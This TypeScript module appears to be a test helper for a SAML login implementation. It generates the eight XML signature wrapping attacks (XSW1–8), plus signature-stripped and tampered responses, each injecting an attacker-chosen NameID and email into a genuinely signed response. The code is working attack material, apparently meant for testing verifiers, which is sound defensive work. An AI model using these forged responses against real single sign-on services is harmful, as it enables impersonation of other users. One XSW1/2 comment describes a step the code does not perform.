// Hostile variants of a genuine signed SAML response: the eight XML signature wrapping attacks
// (XSW1–8, as catalogued by SAML Raider after Somorovsky et al., "On Breaking SAML", 2012).
// Each keeps the genuine signature verifiable while putting an attacker's assertion (a changed
// NameID and email) where a careless reader would take it from.
import { createRequire } from 'node:module';

const requireCjs = createRequire(import.meta.url);
// eslint-disable-next-line @typescript-eslint/no-explicit-any -- untyped on purpose (see saml-idp.ts)
type AnyNode = any;
const { DOMParser, XMLSerializer } = requireCjs('@xmldom/xmldom') as {
  DOMParser: new () => { parseFromString(xml: string, type: string): AnyNode };
  XMLSerializer: new () => { serializeToString(node: AnyNode): string };
};

const DS = 'http://www.w3.org/2000/09/xmldsig#';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';

const child = (parent: AnyNode, ns: string, name: string): AnyNode =>
  Array.from(parent.childNodes as ArrayLike<AnyNode>).find((n) => n.namespaceURI === ns && n.localName === name);

/** Replaces the NameID text and the email attribute of an assertion (in place). */
function makeEvil(assertion: AnyNode, evilEmail: string, newId?: string): void {
  const subject = child(assertion, SAML, 'Subject');
  const nameId = child(subject, SAML, 'NameID');
  while (nameId.firstChild) nameId.removeChild(nameId.firstChild);
  nameId.appendChild(assertion.ownerDocument.createTextNode(evilEmail));
  const statements = assertion.getElementsByTagNameNS(SAML, 'AttributeValue');
  for (let i = 0; i < statements.length; i++) {
    const value = statements.item(i);
    while (value.firstChild) value.removeChild(value.firstChild);
    value.appendChild(assertion.ownerDocument.createTextNode(evilEmail));
  }
  if (newId) assertion.setAttribute('ID', newId);
}

const removeSignature = (element: AnyNode): void => {
  const signature = child(element, DS, 'Signature');
  if (signature) element.removeChild(signature);
};

export type WrappingVariant = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';
export const WRAPPING_VARIANTS: WrappingVariant[] = ['XSW1', 'XSW2', 'XSW3', 'XSW4', 'XSW5', 'XSW6', 'XSW7', 'XSW8'];

/**
 * XSW1–2 take a response whose Response element is signed; XSW3–8 one whose Assertion is
 * signed. `evilEmail` is who the attacker wants to be.
 */
export function wrap(signedXml: string, variant: WrappingVariant, evilEmail: string): string {
  const doc = new DOMParser().parseFromString(signedXml, 'text/xml');
  const response = doc.documentElement;
  const serialize = () => new XMLSerializer().serializeToString(doc);
  switch (variant) {
    case 'XSW1':
    case 'XSW2': {
      // The genuine (signed) Response moves inside (XSW1) or beside (XSW2) the signature of an
      // evil copy that becomes the document.
      const original = response.cloneNode(true);
      const evil = response;
      const signature = child(evil, DS, 'Signature');
      const evilAssertion = child(evil, SAML, 'Assertion');
      makeEvil(evilAssertion, evilEmail);
      evil.setAttribute('ID', `${evil.getAttribute('ID')}-evil`);
      removeSignature(original);
      if (variant === 'XSW1') signature.appendChild(original);
      else evil.insertBefore(original, signature);
      // The moved original keeps its signature reference target; put the signature back on it.
      return serialize();
    }
    case 'XSW3':
    case 'XSW4': {
      const original = child(response, SAML, 'Assertion');
      const evil = original.cloneNode(true);
      removeSignature(evil);
      makeEvil(evil, evilEmail, `${original.getAttribute('ID')}-evil`);
      if (variant === 'XSW3') response.insertBefore(evil, original);
      else {
        response.replaceChild(evil, original);
        evil.appendChild(original);
      }
      return serialize();
    }
    case 'XSW5': {
      // The signature stays in the (now evil) first assertion; an unchanged copy of the
      // original, without signature, is appended to the response.
      const original = child(response, SAML, 'Assertion');
      const copy = original.cloneNode(true);
      removeSignature(copy);
      makeEvil(original, evilEmail);
      response.appendChild(copy);
      return serialize();
    }
    case 'XSW6': {
      // Evil assertion carries the signature; the original assertion sits inside the signature.
      const original = child(response, SAML, 'Assertion');
      const evil = original.cloneNode(true);
      makeEvil(evil, evilEmail, `${original.getAttribute('ID')}-evil`);
      response.replaceChild(evil, original);
      const signature = child(evil, DS, 'Signature');
      removeSignature(original);
      signature.appendChild(original);
      return serialize();
    }
    case 'XSW7': {
      // The original assertion hides in an Extensions element; the evil one follows.
      const original = child(response, SAML, 'Assertion');
      const evil = original.cloneNode(true);
      removeSignature(evil);
      makeEvil(evil, evilEmail);
      const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
      response.replaceChild(extensions, original);
      extensions.appendChild(original);
      response.appendChild(evil);
      return serialize();
    }
    case 'XSW8': {
      // Evil assertion with the signature; the original inside an Object element of it.
      const original = child(response, SAML, 'Assertion');
      const evil = original.cloneNode(true);
      makeEvil(evil, evilEmail);
      response.replaceChild(evil, original);
      const signature = child(evil, DS, 'Signature');
      const object = doc.createElementNS(DS, 'ds:Object');
      removeSignature(original);
      object.appendChild(original);
      signature.appendChild(object);
      return serialize();
    }
  }
}

/** The response with every signature removed. */
export function stripSignatures(signedXml: string): string {
  const doc = new DOMParser().parseFromString(signedXml, 'text/xml');
  const signatures = doc.getElementsByTagNameNS(DS, 'Signature');
  for (let i = signatures.length - 1; i >= 0; i--) signatures.item(i).parentNode.removeChild(signatures.item(i));
  return new XMLSerializer().serializeToString(doc);
}

/** Changes the email of a signed response without re-signing (a tampered response). */
export function tamper(signedXml: string, evilEmail: string): string {
  const doc = new DOMParser().parseFromString(signedXml, 'text/xml');
  makeEvil(child(doc.documentElement, SAML, 'Assertion'), evilEmail);
  return new XMLSerializer().serializeToString(doc);
}

export { SAML as SAML_ASSERTION_NS, SAMLP as SAML_PROTOCOL_NS };
